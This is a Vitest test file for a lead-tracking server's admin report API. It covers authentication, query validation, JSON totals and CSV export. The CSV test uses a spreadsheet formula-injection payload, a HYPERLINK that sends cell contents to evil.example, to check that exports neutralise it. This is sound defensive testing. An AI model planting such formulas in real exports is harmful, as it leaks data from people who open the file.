import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseConfig } from '../src/config.js';
import { type RunningServer, startServer } from '../src/node.js';
import { fullLead, PACKAGE_DIR, tempDir } from './helpers.js';

const TOKEN = 'admin-token-0123456789abcdef';
const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

let server: RunningServer | undefined;
let tmp: ReturnType<typeof tempDir> | undefined;

afterEach(async () => {
  await server?.close();
  server = undefined;
  tmp?.cleanup();
});

async function start() {
  tmp = tempDir();
  server = await startServer({
    config: { adminToken: TOKEN, rateLimit: false, reporting: { currency: 'eur' } },
    port: 0,
    dbPath: join(tmp.dir, 'leadkit.db'),
    log: () => {},
    handleSignals: false,
  });
}

function get(path: string, token: string | null = TOKEN) {
  return fetch(server!.url + path, { headers: token ? { authorization: `Bearer ${token}` } : {} });
}

async function postLead(campaign: string | undefined, extra: object = {}) {
  const lead = fullLead(extra);
  // First touch a day before: fullLead's fixed dates may lie in the future.
  const timestamp = new Date(Date.now() - 86_400_000).toISOString();
  lead.attribution!.firstTouch = { ...lead.attribution!.firstTouch, campaign, timestamp };
  const res = await fetch(`${server!.url}/v1/leads`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(lead),
  });
  // 202: accepted, and queued for any destinations.
  expect(res.status).toBe(202);
}

describe('GET /v1/admin/report', () => {
  it('needs the admin token', async () => {
    await start();
    expect((await get('/v1/admin/report', null)).status).toBe(401);
    expect((await get('/v1/admin/report.csv', 'wrong-token-0123456789')).status).toBe(401);
  });

  it('says what is wrong with period and basis', async () => {
    await start();
    const bad = async (query: string) => {
      const res = await get(`/v1/admin/report?${query}`);
      expect(res.status).toBe(400);
      return ((await res.json()) as { error: string }).error;
    };
    expect(await bad('basis=weekly')).toMatch(/basis must be cohort or activity/);
    expect(await bad('period=yesterday')).toMatch(/period must be one of this-month, last-month/);
    expect(await bad('from=soon')).toMatch(/from must be a date/);
    expect(await bad('from=2026-05-02&to=2026-05-01')).toMatch(/ends before it starts/);
  });

  it('reports non-spam leads in the configured currency, by first and last touch', async () => {
    await start();
    await postLead('spring');
    await postLead('spring');
    await postLead(undefined);
    // Spam (honeypot filled) is left out.
    await postLead('spring', { fields: { email: 'bot@example.com', _gotcha: 'x' } });
    const res = await get('/v1/admin/report?period=all-time&basis=cohort');
    expect(res.status).toBe(200);
    const body = (await res.json()) as {
      currency: string;
      period: string;
      from: string | null;
      firstTouch: {
        byCampaign: { name: string; leads: number }[];
        total: { leads: number; revenue: object };
      };
      lastTouch: { byChannel: { name: string; leads: number }[] };
    };
    expect(body).toMatchObject({ currency: 'EUR', period: 'all-time', from: null });
    expect(body.firstTouch.total).toMatchObject({ leads: 3, revenue: { EUR: 0 } });
    expect(body.firstTouch.byCampaign.map((g) => [g.name, g.leads])).toEqual([
      ['spring', 2],
      ['(not set)', 1],
    ]);
    // fullLead's last touch comes from Google search without utm tags.
    expect(body.lastTouch.byChannel.map((g) => [g.name, g.leads])).toEqual([['Organic Search', 3]]);

    const custom = await get(`/v1/admin/report?from=${new Date(Date.now() + 60_000).toISOString()}`);
    expect(((await custom.json()) as typeof body).firstTouch.total.leads).toBe(0);
  });

  it('exports CSV with a BOM, a file name, and attacker campaigns neutralised', async () => {
    await start();
    await postLead(EVIL);
    await postLead('-2+3');
    const res = await get('/v1/admin/report.csv?period=all-time');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="leadkit-funnel-all-time-cohort.csv"',
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    const lines = text.split('\r\n');
    // The formula becomes text: a leading quote, inner quotes doubled, the cell quoted (it holds commas).
    // Columns: counts, revenue EUR, four rates (%), median days to lead (about 1), to won, to contact.
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^first,campaign,"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A1,""Click me""\)",1,0,0,0,0,0,,,0,1(\.\d+)?,,$/,
      ),
    );
    expect(lines).toContainEqual(
      expect.stringMatching(/^first,campaign,'-2\+3,1,0,0,0,0,0,,,0,1(\.\d+)?,,$/),
    );
    // No line has a cell that starts a formula.
    for (const line of lines) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
    }
  });
});

describe('the Funnel report docs page', () => {
  const page = readFileSync(join(PACKAGE_DIR, '../../docs/content/funnel-report.md'), 'utf8');

  it('has a config that parses and API calls that answer as described', async () => {
    const json = page.match(/```json\n([\s\S]*?)```/)![1]!;
    const config = parseConfig(JSON.parse(json), { env: { LEADKIT_ADMIN_TOKEN: TOKEN } });
    expect(config.reporting).toEqual({ currency: 'EUR', timeZone: 'Europe/Berlin' });
    await start();
    const urls = [...page.matchAll(/"http:\/\/127\.0\.0\.1:8787(\/v1\/admin\/report[^"]*)"/g)].map(
      (m) => m[1]!,
    );
    expect(urls).toHaveLength(3);
    for (const path of urls) {
      const res = await get(path);
      expect(res.status, path).toBe(200);
      if (path.includes('.csv')) expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      else {
        const body = (await res.json()) as Record<string, unknown>;
        for (const key of [
          'from',
          'to',
          'period',
          'basis',
          'timeZone',
          'currency',
          'currencies',
          'firstTouch',
          'lastTouch',
        ]) {
          expect(body, `${path} ${key}`).toHaveProperty(key);
        }
      }
    }
  });
});
